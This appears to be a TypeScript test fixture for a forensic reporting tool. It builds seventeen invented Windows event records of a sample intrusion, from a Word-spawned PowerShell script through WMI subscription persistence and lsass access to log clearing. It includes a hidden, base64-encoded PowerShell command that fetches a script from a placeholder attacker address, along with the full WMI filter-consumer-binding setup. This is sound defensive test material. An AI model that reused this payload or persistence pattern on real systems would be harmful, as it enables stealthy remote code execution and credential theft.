import type { RecordLine } from '../../src/report/index.ts';
import type { Evidence } from '../../src/windows/index.ts';

/** The records of the sample incident: one session calls WMI on a server, plants a subscription, and it runs. All names are invented. */

export const WS07 = 'ws-07.corp.example';
export const SRV02 = 'srv-02.corp.example';
export const DC01 = 'dc-01.corp.example';
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const WMI = 'Microsoft-Windows-WMI-Activity/Operational';
const ALICE_SID = 'S-1-5-21-1004336348-1177238915-682003330-1120';
export const DEPLOY_SID = 'S-1-5-21-1004336348-1177238915-682003330-1147';
export const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
export const WMIPRVSE = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe';
export const QUERY =
  "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 10";
export const DECODED = '& $env:ProgramData\\UpdSvc\\sync.ps1 -From https://203.0.113.24/u';
export const PAYLOAD: string = `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(DECODED, 'utf16le').toString('base64')}`;

const ARCHIVES: Readonly<Record<string, string>> = {
  [WS07]: 'evidence/WS-07.zip',
  [SRV02]: 'evidence/SRV-02.zip',
  [DC01]: 'evidence/DC-01.zip',
};

/** A record from host, channel, event id, record id, time of day and fields. */
function made(
  host: string,
  channel: string,
  eventId: number,
  recordId: number,
  timeOfDay: string,
  data: Readonly<Record<string, string>>,
): RecordLine {
  const time = `2026-03-12T${timeOfDay}Z`;
  const name = `${host.split('.', 1)[0]?.toUpperCase() ?? ''}.corp.example`;
  return {
    id: `${host.slice(0, 2)}${String(recordId).padStart(14, 'a')}`,
    time,
    timeRaw: time,
    host,
    hostRaw: name,
    channel,
    provider: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : channel.replace('/Operational', ''),
    eventId,
    version: 5,
    recordId,
    headerRecordId: recordId,
    class: 'live',
    shape: 'evtx',
    sources: [
      {
        file: ARCHIVES[host] ?? '',
        container: [`Windows/System32/winevt/Logs/${channel.replace('/', '%4')}.evtx`],
        offset: 0x11000 + (recordId % 977) * 1184,
        length: 1184,
      },
    ],
    system: { Level: '4', Keywords: '0x8020000000000000', ProcessID: '704', ThreadID: '4020' },
    data,
  };
}

const CALLER = '{6b1c0a55-93e8-69b2-1402-000000003a00}';
const FIRED = '{0f4e77d1-3c59-69b2-8f11-000000005200}';
const caller = { ProcessGuid: CALLER, ProcessId: '7312', Image: POWERSHELL, User: 'CORP\\alice' };
const fired = { ProcessGuid: FIRED, ProcessId: '6120', Image: POWERSHELL, User: 'NT AUTHORITY\\SYSTEM' };
const tcp = { Protocol: 'tcp', Initiated: 'true' };
const kerberos = { LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos' };

export const wordStarts: RecordLine = made(WS07, SYSMON, 1, 448120, '09:43:52.1187158', {
  UtcTime: '2026-03-12 09:43:52.118',
  ...caller,
  CommandLine: 'powershell.exe -NoP -W Hidden -File C:\\Users\\alice\\AppData\\Local\\Temp\\inv.ps1',
  LogonId: '0x1f3a9c',
  IntegrityLevel: 'Medium',
  ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  ParentProcessId: '5140',
});
export const credentials: RecordLine = made(WS07, 'Security', 4648, 991204, '09:44:02.3046817', {
  SubjectUserSid: ALICE_SID,
  SubjectUserName: 'alice',
  SubjectDomainName: 'CORP',
  SubjectLogonId: '0x1f3a9c',
  TargetUserName: 'svc-deploy',
  TargetDomainName: 'CORP',
  TargetServerName: 'SRV-02.corp.example',
  TargetInfo: 'RPCSS/SRV-02.corp.example',
  ProcessId: '0x1c90',
  ProcessName: POWERSHELL,
  IpAddress: '-',
  IpPort: '-',
});
export const ticket: RecordLine = made(DC01, 'Security', 4769, 7720418, '09:44:02.3775923', {
  TargetUserName: 'svc-deploy@CORP.EXAMPLE',
  TargetDomainName: 'CORP.EXAMPLE',
  ServiceName: 'SRV-02$',
  ServiceSid: 'S-1-5-21-1004336348-1177238915-682003330-2107',
  TicketOptions: '0x40810000',
  TicketEncryptionType: '0x12',
  IpAddress: '::ffff:10.20.4.17',
  IpPort: '50409',
  Status: '0x0',
});
export const mapper: RecordLine = made(WS07, SYSMON, 3, 448133, '09:44:02.6112585', {
  UtcTime: '2026-03-12 09:44:02.611',
  ...caller,
  ...tcp,
  SourceIp: '10.20.4.17',
  SourcePort: '50410',
  DestinationIp: '10.20.1.32',
  DestinationHostname: 'SRV-02.corp.example',
  DestinationPort: '135',
});
export const dynamic: RecordLine = made(WS07, SYSMON, 3, 448134, '09:44:02.7023119', {
  UtcTime: '2026-03-12 09:44:02.702',
  ...caller,
  ...tcp,
  SourceIp: '10.20.4.17',
  SourcePort: '50412',
  DestinationIp: '10.20.1.32',
  DestinationHostname: 'SRV-02.corp.example',
  DestinationPort: '49668',
});
export const signIn: RecordLine = made(SRV02, 'Security', 4624, 3310771, '09:44:02.9180789', {
  SubjectUserSid: 'S-1-0-0',
  TargetUserSid: DEPLOY_SID,
  TargetUserName: 'svc-deploy',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x4a9c2e1',
  LogonType: '3',
  ...kerberos,
  WorkstationName: '-',
  IpAddress: '10.20.4.17',
  IpPort: '50412',
  ElevatedToken: '%%1842',
});
export const filter: RecordLine = made(SRV02, SYSMON, 19, 220871, '09:44:04.0315036', {
  EventType: 'WmiFilterEvent',
  UtcTime: '2026-03-12 09:44:04.031',
  Operation: 'Created',
  User: 'CORP\\svc-deploy',
  EventNamespace: ' "root\\\\cimv2"',
  Name: ' "UpdSvcSync"',
  Query: ` "${QUERY}"`,
});
export const consumer: RecordLine = made(SRV02, SYSMON, 20, 220872, '09:44:04.1127302', {
  EventType: 'WmiConsumerEvent',
  UtcTime: '2026-03-12 09:44:04.112',
  Operation: 'Created',
  User: 'CORP\\svc-deploy',
  Name: ' "UpdSvcSync"',
  Type: 'Command Line',
  Destination: ` "${PAYLOAD}"`,
});
export const binding: RecordLine = made(SRV02, SYSMON, 21, 220873, '09:44:04.2050487', {
  EventType: 'WmiBindingEvent',
  UtcTime: '2026-03-12 09:44:04.205',
  Operation: 'Created',
  User: 'CORP\\svc-deploy',
  Consumer: ' "CommandLineEventConsumer.Name=\\"UpdSvcSync\\""',
  Filter: ' "__EventFilter.Name=\\"UpdSvcSync\\""',
});
export const registered: RecordLine = made(SRV02, WMI, 5861, 18822, '09:44:04.2190016', {
  Namespace: '//./ROOT/subscription',
  ESS: 'UpdSvcSync',
  CONSUMER: 'CommandLineEventConsumer="UpdSvcSync"',
  PossibleCause: `Binding EventFilter: instance of __EventFilter { CreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0}; EventNamespace = "root\\\\cimv2"; Name = "UpdSvcSync"; Query = "${QUERY}"; QueryLanguage = "WQL"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = "${PAYLOAD}"; Name = "UpdSvcSync"; };`,
});
export const remoteDesktop: RecordLine = made(SRV02, 'Security', 4624, 3311902, '10:02:11.4805774', {
  TargetUserName: 'alice',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x4b0177f',
  LogonType: '10',
  LogonProcessName: 'User32',
  AuthenticationPackageName: 'Negotiate',
  WorkstationName: 'SRV-02',
  IpAddress: '10.20.4.17',
  IpPort: '0',
});
export const ran: RecordLine = made(SRV02, SYSMON, 1, 220940, '10:02:17.7023789', {
  UtcTime: '2026-03-12 10:02:17.702',
  ...fired,
  CommandLine: PAYLOAD,
  LogonId: '0x3e7',
  IntegrityLevel: 'System',
  ParentImage: WMIPRVSE,
  ParentCommandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
  ParentProcessId: '3488',
});
export const outbound: RecordLine = made(SRV02, SYSMON, 3, 220947, '10:02:19.1155702', {
  UtcTime: '2026-03-12 10:02:19.115',
  ...fired,
  ...tcp,
  SourceIp: '10.20.1.32',
  SourcePort: '51877',
  DestinationIp: '203.0.113.24',
  DestinationPort: '443',
});
export const memory: RecordLine = made(SRV02, SYSMON, 10, 220958, '10:02:24.6400172', {
  UtcTime: '2026-03-12 10:02:24.640',
  SourceProcessGUID: FIRED,
  SourceProcessId: '6120',
  SourceImage: POWERSHELL,
  TargetImage: 'C:\\Windows\\System32\\lsass.exe',
  TargetProcessId: '704',
  GrantedAccess: '0x1410',
  CallTrace:
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF8A21D0B7C)',
  SourceUser: 'NT AUTHORITY\\SYSTEM',
  TargetUser: 'NT AUTHORITY\\SYSTEM',
});
export const onward: RecordLine = made(DC01, 'Security', 4624, 7720977, '10:03:40.0274715', {
  TargetUserName: 'svc-deploy',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x9d1c40a',
  LogonType: '3',
  ...kerberos,
  IpAddress: '10.20.1.32',
  IpPort: '51903',
});
export const command: RecordLine = made(DC01, 'Security', 4688, 7720979, '10:03:40.4887586', {
  SubjectUserName: 'DC-01$',
  SubjectDomainName: 'CORP',
  SubjectLogonId: '0x3e4',
  NewProcessId: '0x1a3c',
  NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
  CommandLine: '',
  TargetUserName: 'svc-deploy',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x9d1c40a',
  ParentProcessName: WMIPRVSE,
});
export const cleared: RecordLine = made(SRV02, 'Security', 1102, 3311960, '10:05:02.1180447', {
  SubjectUserSid: 'S-1-5-18',
  SubjectUserName: 'SYSTEM',
  SubjectDomainName: 'NT AUTHORITY',
  SubjectLogonId: '0x3e7',
});

/** In time order, as numbered on the page: 1 to 17. */
export const INCIDENT_RECORDS: readonly RecordLine[] = [
  wordStarts,
  credentials,
  ticket,
  mapper,
  dynamic,
  signIn,
  filter,
  consumer,
  binding,
  registered,
  remoteDesktop,
  ran,
  outbound,
  memory,
  onward,
  command,
  cleared,
];

export function cites(...records: readonly RecordLine[]): Evidence[] {
  return records.map((record) => {
    const [source] = record.sources;
    return {
      file: source?.file ?? '',
      ...(source?.container === undefined ? {} : { container: source.container }),
      channel: record.channel,
      eventId: record.eventId,
      ...(record.recordId === undefined ? {} : { recordId: record.recordId, headerRecordId: record.recordId }),
      ...(record.time === undefined ? {} : { time: record.time }),
      offset: source?.offset ?? 0,
      length: source?.length ?? 0,
      record: record.id,
    };
  });
}
